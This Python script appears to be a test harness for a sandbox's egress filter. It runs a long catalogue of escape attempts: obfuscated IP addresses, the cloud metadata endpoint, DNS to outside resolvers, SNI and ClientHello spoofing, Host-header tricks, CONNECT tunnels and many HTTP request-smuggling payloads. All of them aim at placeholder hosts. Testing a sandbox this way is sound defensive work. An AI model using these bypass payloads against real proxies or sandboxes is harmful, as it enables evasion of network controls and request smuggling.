#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""attack.py [-r FILE] GROUP…: tries to get out, and prints a line "NAME reached" or "NAME stopped (HOW)" for each way.

What must not be reached answers with a word that begins with EVIL-. -r: outside, as a control: names are looked up in this hosts file, without any protection.
"""
import os
import socket
import ssl
import struct
import subprocess
import sys

import hello

PATIENCE = 3
control = {}
CA = os.path.join(os.path.dirname(os.path.abspath(__file__)), "ca.pem")


def address_of(name, family=socket.AF_INET):
    if control:
        return next(a for a in control[name.lower().rstrip(".")] if (":" in a) == (family == socket.AF_INET6))
    return socket.getaddrinfo(name, 1, family, socket.SOCK_STREAM)[0][4][0]


def dial(host, port, family=None):
    if host[0].isalpha() and ":" not in host:
        host = address_of(host, family or socket.AF_INET)
    s = socket.socket(family or (socket.AF_INET6 if ":" in host else socket.AF_INET))
    s.settimeout(PATIENCE)
    s.connect((host, port))
    return s


def all_of(s):
    """Everything that comes, up to its end, or until nothing comes any more."""
    data = b""
    try:
        while b"EVIL-" not in data and (more := s.recv(65536)):
            data += more
    except TimeoutError:
        if not data:
            raise
    except ConnectionResetError:
        if not data:
            raise
    return data


def say(s, data):
    s.sendall(data)
    return all_of(s)


def say_once(s, data):
    s.sendall(data)
    return s.recv(65536)


def get(host, port=80, name="evil.example"):
    return say(dial(host, port), f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())


def get_tls(host, port=443, name="evil.example"):
    context = ssl.create_default_context(cafile=CA)
    context.check_hostname = False
    s = context.wrap_socket(dial(host, port), server_hostname=name)
    return say(s, f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())


# ---- addresses ----

def mapped(address, port=80):
    return get(f"::ffff:{address}", port)


def by_curl(*args):
    r = subprocess.run(["curl", "-sS", "-m", str(PATIENCE), "--noproxy", "*", "--cacert", CA, *args], capture_output=True)
    if r.returncode:
        raise OSError(r.stderr.decode().strip()[:80])
    return r.stdout


def datagram(address, port, data=b"x"):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(PATIENCE)
    s.connect((address, port))
    s.send(data)
    return s.recv(4096)


def ping(kind, address):
    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
    s.settimeout(PATIENCE)
    body = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
    sum = 0xffff - (0x0800 + 1 + 1)
    s.sendto(body[:2] + struct.pack(">H", sum) + body[4:], (address, 0))
    return b"EVIL-" if s.recv(4096) else b""


def packets():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    return b"EVIL-" if s else b""


def raw():
    return b"EVIL-" if socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) else b""


def other_family(family, kind=socket.SOCK_STREAM, protocol=0):
    return b"EVIL-" if socket.socket(family, kind, protocol) else b""


ADDRESSES = {
    "hard-coded address": lambda: get("9.9.9.66"),
    "hard-coded address, TLS": lambda: get_tls("9.9.9.66"),
    "hard-coded address, another port": lambda: get("9.9.9.66", 7000),
    "hard-coded IPv6 address": lambda: get("2620:fe::66"),
    "hard-coded IPv6 address, TLS": lambda: get_tls("2620:fe::66"),
    "IPv4-mapped IPv6 address": lambda: mapped("9.9.9.66"),
    "octal address": lambda: by_curl("http://011.011.011.0102/"),
    "hexadecimal address": lambda: by_curl("http://0x09.0x9.0x9.0x42/"),
    "decimal address": lambda: by_curl("http://151587138/"),
    "short address": lambda: by_curl("http://9.9.2370/"),
    "the metadata service": lambda: get("169.254.169.254"),
    "a neighbour of the host": lambda: get("10.0.0.5"),
    "the host's loopback": lambda: get("127.0.0.1"),
    "the host's loopback by IPv6": lambda: get("::1"),
    "the host's loopback as 0": lambda: get("0.0.0.0"),
    "the host's loopback in hexadecimal": lambda: by_curl("http://0x7f.1/"),
    "UDP": lambda: datagram("9.9.9.66", 7000),
    "UDP by IPv6": lambda: datagram("2620:fe::66", 7000),
    "UDP to the host's loopback": lambda: datagram("127.0.0.1", 7000),
}
ASK = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\0\0\1\0\1"


def asked(data):
    return b"EVIL-" if data else b""


# DNS by others than the sandbox's own resolver.
RESOLVERS = {
    "DNS over UDP to another resolver": lambda: asked(datagram("9.9.9.54", 53, ASK)),
    "DNS over TCP to another resolver": lambda: asked(say_once(dial("9.9.9.54", 53), struct.pack(">H", len(ASK)) + ASK)),
    "DNS over TLS to another resolver": lambda: get_tls("9.9.9.54", 853),
    "DNS over HTTPS to another resolver": lambda: get_tls("9.9.9.54", 443, "asked.example"),
    "DNS over UDP to the host's resolver": lambda: asked(datagram("9.9.9.53", 53, ASK)),
    "DNS over TCP to the host's resolver": lambda: asked(say_once(dial("9.9.9.53", 53), struct.pack(">H", len(ASK)) + ASK)),
}
# Without a control: what the kernel refuses to whoever is not privileged, or what an ordinary host has not.
KERNEL = {
    "raw socket": raw,
    "packet socket": packets,
    "ICMP": lambda: ping(socket.SOCK_RAW, "9.9.9.66"),
    "ICMP without privileges": lambda: ping(socket.SOCK_DGRAM, "9.9.9.66"),
    "SCTP": lambda: get_by(socket.IPPROTO_SCTP),
    "vsock": lambda: other_family(40),
    "kernel crypto socket": lambda: other_family(38, socket.SOCK_SEQPACKET),
    "Bluetooth": lambda: other_family(31, socket.SOCK_SEQPACKET),
    "CAN": lambda: other_family(29, socket.SOCK_RAW, 1),
    "XDP": lambda: other_family(44, socket.SOCK_RAW),
}


def get_by(protocol):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol)
    s.settimeout(PATIENCE)
    s.connect(("9.9.9.66", 80))
    return b"EVIL-"


# ---- what the airlock does not have ----

AIRLOCK = {
    "a port that is not allowed": lambda: get("api.example", 2222),
    "another port that is not allowed": lambda: get("api.example", 8080, "evil.example"),
    "an address of the airlock that has no name": lambda: get("198.18.250.250", 80),
    "an address of the airlock that has no name, with an allowed one inside": lambda: get_tls("198.18.250.250", 443, "api.example"),
    "the resolver as a web server": lambda: get("198.18.0.1", 80, "evil.example"),
    "the resolver as an allowed host": lambda: get_tls("198.18.0.1", 443, "api.example"),
    "the other end of the link": lambda: get("198.19.255.254", 80),
    "the other end of the link, TLS": lambda: get_tls("198.19.255.254", 443, "api.example"),
    "the other end of the link by IPv6": lambda: get("fd00:c1::2", 80),
    "resolver of another transport": lambda: get_tls("198.18.0.1", 853),
    "QUIC": lambda: datagram(address_of("api.example"), 443),
    "a multicast address": lambda: datagram("224.0.0.1", 7000),
    "a neighbour in the block": lambda: get("198.19.255.255", 80),
}

# ---- TLS ----

WEB = b"GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"


def answered(s):
    """The server answers a hello that gets to it with a record or an alert."""
    return b"EVIL-" if s.recv(1) in (b"\x16", b"\x15") else b""


def tls_hello(name, **how):
    """A ClientHello made by hand."""
    s = dial("api.example", 443)
    s.sendall(hello.client_hello(name, **how))
    return answered(s)


def tls_retry(name):
    """A first hello without a key, so that the server asks for another one, which is for somebody else."""
    s = dial("api.example", 443)
    s.sendall(hello.client_hello("api.example", shares=[]))
    if s.recv(65536)[:1] != b"\x16":
        return b""
    s.sendall(hello.client_hello(name, shares=[(29, os.urandom(32))]))
    while first := s.recv(65536)[:1]:
        if first in (b"\x16", b"\x15"):
            return b"EVIL-"
    return b""


def tls_bytes(data):
    s = dial("api.example", 443)
    s.sendall(data)
    return answered(s)


def tls_in_pieces(name):
    data = hello.client_hello(name)
    s = dial("api.example", 443)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for b in data:
        s.sendall(bytes([b]))
    return answered(s)


TLS = {
    "SNI of another host": lambda: get_tls("api.example", 443, "evil.example"),
    "SNI of another host, by IPv6": lambda: get_tls(address_of("api.example", socket.AF_INET6), 443, "evil.example"),
    "no SNI": lambda: tls_hello(None),
    "SNI of another host in one-byte pieces": lambda: tls_in_pieces("evil.example"),
    "SNI of another host in small records": lambda: tls_hello("evil.example", record=17),
    "two SNI extensions": lambda: tls_hello("api.example", second_extension="evil.example"),
    "two SNI extensions, the other way round": lambda: tls_hello("evil.example", second_extension="api.example"),
    "two names in one SNI": lambda: tls_hello("api.example", second_name="evil.example"),
    "a NUL in SNI": lambda: tls_hello("evil.example\0.api.example"),
    "a NUL in SNI behind the name": lambda: tls_hello("api.example\0.evil.example"),
    "a NUL at the end of SNI": lambda: tls_hello("api.example\0"),
    "white space in SNI": lambda: tls_hello(" api.example"),
    "a name below the allowed one": lambda: tls_hello("x.api.example"),
    "the allowed name's suffix": lambda: tls_hello("example"),
    "the allowed name in front": lambda: tls_hello("api.example.evil.example"),
    "a homograph": lambda: tls_hello("xn--pi-6kc.example"),
    "an empty SNI": lambda: tls_hello(""),
    "an address as SNI": lambda: tls_hello("9.9.9.66"),
    "another name in a second hello": lambda: tls_retry("evil.example"),
    "encrypted ClientHello": lambda: tls_hello("api.example", ech=True),
    "an old hello of version 2": lambda: tls_bytes(hello.version_2()),
    "a record that is no handshake": lambda: tls_bytes(b"\x16\x03\x01\x00\x05hello" + WEB),
    "an alert first": lambda: tls_bytes(b"\x15\x03\x01\x00\x02\x01\x00" + hello.client_hello("evil.example")),
}

# ---- HTTP ----

ME, IT = b"Host: api.example\r\n", b"Host: evil.example\r\n"
SECOND = b"GET / HTTP/1.1\r\n" + IT + b"Connection: close\r\n\r\n"


def http(*pieces):
    """Each piece when the answer to what was before it has come."""
    s = dial("api.example", 80)
    data = b""
    for p in pieces[:-1]:
        s.sendall(p)
        data += s.recv(65536)
        if not data:
            raise ConnectionResetError("closed")
    return data + say(s, pieces[-1])


def smuggled(head, body=b"0\r\n\r\n", path=b"/"):
    return http(b"POST " + path + b" HTTP/1.1\r\n" + ME + head + b"\r\n" + body + SECOND)


SIZE = str(len(b"0\r\n\r\n" + SECOND)).encode()
HTTP = {
    "Host of another": lambda: http(SECOND),
    "no Host": lambda: http(b"GET http://evil.example/ HTTP/1.1\r\nConnection: close\r\n\r\n"),
    "two Hosts": lambda: http(b"GET / HTTP/1.1\r\n" + ME + IT + b"\r\n"),
    "two Hosts, the other way round, on one line": lambda: http(b"GET / HTTP/1.1\r\nHost: evil.example\r\n" + ME.replace(b"Host", b"X-Host") + b"\r\n"),
    "Host in a folded line": lambda: http(b"GET / HTTP/1.1\r\nHost: api.example\r\n .evil.example\r\n\r\n"),
    "Host with space before the colon": lambda: http(b"GET / HTTP/1.1\r\n" + ME + b"Host : evil.example\r\n\r\n"),
    "Host with a tab before the colon": lambda: http(b"GET / HTTP/1.1\r\n" + ME + b"Host\t: evil.example\r\n\r\n"),
    "Host behind a bare line feed": lambda: http(b"GET / HTTP/1.1\r\n" + ME + b"X: y\nHost: evil.example\r\n\r\n"),
    "line feeds only": lambda: http(b"GET / HTTP/1.1\nHost: evil.example\n\n"),
    "Host with a user": lambda: http(b"GET / HTTP/1.1\r\nHost: api.example@evil.example\r\n\r\n"),
    "Host with a port that hides another": lambda: http(b"GET / HTTP/1.1\r\nHost: api.example:80@evil.example\r\n\r\n"),
    "Host with the allowed name in front": lambda: http(b"GET / HTTP/1.1\r\nHost: api.example.evil.example\r\n\r\n"),
    "Host with a NUL": lambda: http(b"GET / HTTP/1.1\r\nHost: api.example\0.evil.example\r\n\r\n"),
    "Host with a comma": lambda: http(b"GET / HTTP/1.1\r\nHost: api.example, evil.example\r\n\r\n"),
    "a whole URL in the request": lambda: http(b"GET http://evil.example/ HTTP/1.1\r\n" + ME + b"\r\n"),
    "a whole URL with a user in the request": lambda: http(b"GET http://api.example@evil.example/ HTTP/1.1\r\n" + ME + b"\r\n"),
    "CONNECT through an allowed host": lambda: http(b"CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example:80\r\n\r\n", WEB),
    "CONNECT with an allowed Host": lambda: http(b"CONNECT 9.9.9.66:80 HTTP/1.1\r\n" + ME + b"\r\n", WEB),
    "CONNECT to the host itself": lambda: http(b"CONNECT api.example:80 HTTP/1.1\r\n" + ME + b"\r\n", SECOND),
    "CONNECT as the second request": lambda: http(b"GET / HTTP/1.1\r\n" + ME + b"\r\n", b"CONNECT evil.example:80 HTTP/1.1\r\n" + ME + b"\r\n", WEB),
    "a second request for another host": lambda: http(b"GET / HTTP/1.1\r\n" + ME + b"\r\n", SECOND),
    "a pipelined request for another host": lambda: http(b"GET / HTTP/1.1\r\n" + ME + b"\r\n" + SECOND),
    "a pipelined request behind a body": lambda: http(b"POST / HTTP/1.1\r\n" + ME + b"Content-Length: 3\r\n\r\nabc" + SECOND),
    "a pipelined request behind chunks": lambda: smuggled(b"Transfer-Encoding: chunked\r\n"),
    "smuggled: length and chunks": lambda: smuggled(b"Content-Length: " + SIZE + b"\r\nTransfer-Encoding: chunked\r\n"),
    "smuggled: chunks and length": lambda: smuggled(b"Transfer-Encoding: chunked\r\nContent-Length: " + SIZE + b"\r\n"),
    "smuggled: by length, in a chunk": lambda: smuggled(b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", b"4a\r\n", b"/by-length"),
    "smuggled: two lengths": lambda: smuggled(b"Content-Length: " + SIZE + b"\r\nContent-Length: 5\r\n"),
    "smuggled: two lengths in one": lambda: smuggled(b"Content-Length: " + SIZE + b", 5\r\nContent-Length: 5\r\n"),
    "smuggled: chunked by a strange name": lambda: smuggled(b"Content-Length: " + SIZE + b"\r\nTransfer-Encoding: xchunked\r\n"),
    "smuggled: chunked with a space": lambda: smuggled(b"Content-Length: " + SIZE + b"\r\nTransfer-Encoding : chunked\r\n"),
    "smuggled: chunked in a folded line": lambda: smuggled(b"Content-Length: " + SIZE + b"\r\nTransfer-Encoding:\r\n chunked\r\n"),
    "smuggled: chunked behind a bare line feed": lambda: smuggled(b"Content-Length: " + SIZE + b"\r\nX: y\nTransfer-Encoding: chunked\r\n"),
    "smuggled: chunk size that overflows": lambda: smuggled(b"Transfer-Encoding: chunked\r\n", b"00000000000000000000\r\n\r\n"),
    "smuggled: in an upgrade that was not agreed to": lambda: http(b"GET /upgrade/no HTTP/1.1\r\n" + ME + b"Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n", SECOND),
    "smuggled: together with an upgrade that is not agreed to": lambda: http(b"GET /upgrade/no HTTP/1.1\r\n" + ME + b"Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n" + SECOND),
    "smuggled: behind a request to upgrade to HTTP/2": lambda: http(b"GET / HTTP/1.1\r\n" + ME + b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAA\r\n\r\n", SECOND),
    "smuggled: HTTP/1.0 without Host": lambda: http(b"GET http://evil.example/ HTTP/1.0\r\n\r\n"),
    "smuggled: behind an empty line": lambda: http(b"\r\n\r\n" + SECOND),
}
# What the world's servers make nothing of; that it does not get to them is seen in their log.
STRANGE = {
    "HTTP/2 without TLS": lambda: http(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"),
    "plain HTTP for another host on 443": lambda: get("api.example", 443),
    "half a hello, then a request": lambda: say(dial("api.example", 443), hello.client_hello("api.example")[:40] + WEB),
    "HTTP/0.9": lambda: http(b"GET /strange\r\n"),
    "something that is no HTTP": lambda: http(b"SSH-2.0-strange\r\n"),
    "an endless head": lambda: http(b"GET /strange HTTP/1.1\r\n" + ME + b"X: " + b"y" * (1 << 20)),
}

GROUPS = {"addresses": ADDRESSES, "resolvers": RESOLVERS, "kernel": KERNEL, "airlock": AIRLOCK, "tls": TLS, "http": HTTP, "strange": STRANGE}


def main(words):
    if words[0] == "-r":
        for line in open(words[1]):
            address, name = line.split()
            control.setdefault(name, []).append(address)
        words = words[2:]
    for word in words:
        for name, attack in GROUPS[word].items():
            try:
                got = attack()
                how = "reached" if b"EVIL-" in got else f"stopped ({len(got)} bytes: {got[:40]!r})"
            except (OSError, ValueError) as e:
                how = f"stopped ({type(e).__name__}: {e})"
            print(name, how, flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
